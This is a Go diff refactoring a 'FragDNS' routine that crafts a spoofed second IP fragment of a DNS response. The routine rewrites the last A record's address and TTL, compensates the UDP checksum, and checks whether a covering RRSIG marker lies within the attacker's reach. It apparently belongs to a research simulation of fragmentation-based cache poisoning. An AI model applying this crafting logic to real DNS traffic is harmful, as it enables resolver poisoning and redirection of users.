@@ -263,8 +263,12 @@ func CraftSecondFragment(dnsWire []byte, mtu int, spoof netip.Addr) (frag2 []byt
 	tail := append([]byte(nil), udpPayload[fragOff:]...)
 
 	// Locate the last A rdata: scan the DNS message structurally.
-	aOff, ttlOff, found := lastARecordOffsets(dnsWire)
-	if !found {
+	aOff, ttlOff := -1, -1
+	if !walkRecords(dnsWire, func(typ dnswire.Type, tOff, rOff, rdlen int) {
+		if typ == dnswire.TypeA && rdlen == 4 {
+			aOff, ttlOff = rOff, tOff
+		}
+	}) || aOff < 0 {
 		return nil, 0, false
 	}
 	aOff += packet.UDPHeaderLen // offsets within udpPayload
@@ -306,18 +310,26 @@ func CraftSecondFragment(dnsWire []byte, mtu int, spoof netip.Addr) (frag2 []byt
 	// stops FragDNS (§6.1). A covering RRSIG that sits in the FIRST
 	// fragment is out of the attacker's reach entirely: the genuine
 	// valid marker would vouch for rdata the attacker rewrote, so the
-	// craft conservatively refuses rather than model a forgery.
-	for _, vOff := range rrsigValidityOffsets(dnsWire, dnswire.TypeA) {
-		vOff += packet.UDPHeaderLen
+	// craft conservatively refuses rather than model a forgery. The
+	// marker is rdata byte 4, after the covered type (see
+	// dnswire.RRSIGData).
+	reachable := true
+	walkRecords(dnsWire, func(typ dnswire.Type, _, rOff, rdlen int) {
+		if typ != dnswire.TypeRRSIG || rdlen < 5 || binary.BigEndian.Uint16(dnsWire[rOff:]) != uint16(dnswire.TypeA) {
+			return
+		}
+		vOff := rOff + 4 + packet.UDPHeaderLen
 		if vOff < fragOff {
-			return nil, 0, false
+			reachable = false
+			return
 		}
-		rel := vOff - fragOff
-		if rel >= len(tail) {
-			continue
+		if rel := vOff - fragOff; rel < len(tail) {
+			delta += (0 - int64(tail[rel])) * weight(rel)
+			tail[rel] = 0
 		}
-		delta += (0 - int64(tail[rel])) * weight(rel)
-		tail[rel] = 0
+	})
+	if !reachable {
+		return nil, 0, false
 	}
 
 	t2, t3 := relTTL+2, relTTL+3
@@ -342,16 +354,17 @@ func mod65535(x int64) int64 {
 	return x
 }
 
-// lastARecordOffsets walks the DNS message and returns byte offsets of
-// the last A record's rdata and TTL fields.
-func lastARecordOffsets(msg []byte) (rdataOff, ttlOff int, found bool) {
+// walkRecords visits every resource record of the DNS message in wire
+// order, passing its type and the byte offsets of its TTL and rdata
+// fields. It reports false when the message is truncated or malformed,
+// possibly after visiting the records before the damage.
+func walkRecords(msg []byte, visit func(typ dnswire.Type, ttlOff, rdataOff, rdlen int)) bool {
 	if len(msg) < dnswire.HeaderLen {
-		return 0, 0, false
+		return false
 	}
 	qd := int(binary.BigEndian.Uint16(msg[4:]))
-	an := int(binary.BigEndian.Uint16(msg[6:]))
-	ns := int(binary.BigEndian.Uint16(msg[8:]))
-	ar := int(binary.BigEndian.Uint16(msg[10:]))
+	rrs := int(binary.BigEndian.Uint16(msg[6:])) + int(binary.BigEndian.Uint16(msg[8:])) +
+		int(binary.BigEndian.Uint16(msg[10:]))
 	off := dnswire.HeaderLen
 	skipName := func() bool {
 		for off < len(msg) {
@@ -370,80 +383,23 @@ func lastARecordOffsets(msg []byte) (rdataOff, ttlOff int, found bool) {
 	}
 	for i := 0; i < qd; i++ {
 		if !skipName() || off+4 > len(msg) {
-			return 0, 0, false
+			return false
 		}
 		off += 4
 	}
-	for i := 0; i < an+ns+ar; i++ {
+	for i := 0; i < rrs; i++ {
 		if !skipName() || off+10 > len(msg) {
-			return 0, 0, false
+			return false
 		}
-		typ := binary.BigEndian.Uint16(msg[off:])
-		tOff := off + 4
 		rdlen := int(binary.BigEndian.Uint16(msg[off+8:]))
 		rOff := off + 10
 		if rOff+rdlen > len(msg) {
-			return 0, 0, false
+			return false
 		}
-		if typ == uint16(dnswire.TypeA) && rdlen == 4 {
-			rdataOff, ttlOff, found = rOff, tOff, true
-		}
+		visit(dnswire.Type(binary.BigEndian.Uint16(msg[off:])), off+4, rOff, rdlen)
 		off = rOff + rdlen
 	}
-	return rdataOff, ttlOff, found
-}
-
-// rrsigValidityOffsets walks the DNS message and returns the byte
-// offsets of the validity marker (rdata byte 4, see
-// dnswire.RRSIGData) of every RRSIG record covering the given type.
-func rrsigValidityOffsets(msg []byte, covered dnswire.Type) []int {
-	if len(msg) < dnswire.HeaderLen {
-		return nil
-	}
-	qd := int(binary.BigEndian.Uint16(msg[4:]))
-	an := int(binary.BigEndian.Uint16(msg[6:]))
-	ns := int(binary.BigEndian.Uint16(msg[8:]))
-	ar := int(binary.BigEndian.Uint16(msg[10:]))
-	off := dnswire.HeaderLen
-	skipName := func() bool {
-		for off < len(msg) {
-			b := msg[off]
-			if b == 0 {
-				off++
-				return true
-			}
-			if b&0xc0 == 0xc0 {
-				off += 2
-				return true
-			}
-			off += 1 + int(b)
-		}
-		return false
-	}
-	for i := 0; i < qd; i++ {
-		if !skipName() || off+4 > len(msg) {
-			return nil
-		}
-		off += 4
-	}
-	var offsets []int
-	for i := 0; i < an+ns+ar; i++ {
-		if !skipName() || off+10 > len(msg) {
-			return nil
-		}
-		typ := binary.BigEndian.Uint16(msg[off:])
-		rdlen := int(binary.BigEndian.Uint16(msg[off+8:]))
-		rOff := off + 10
-		if rOff+rdlen > len(msg) {
-			return nil
-		}
-		if typ == uint16(dnswire.TypeRRSIG) && rdlen >= 5 &&
-			binary.BigEndian.Uint16(msg[rOff:]) == uint16(covered) {
-			offsets = append(offsets, rOff+4)
-		}
-		off = rOff + rdlen
-	}
-	return offsets
+	return true
 }
 
 func (a *FragDNS) String() string {
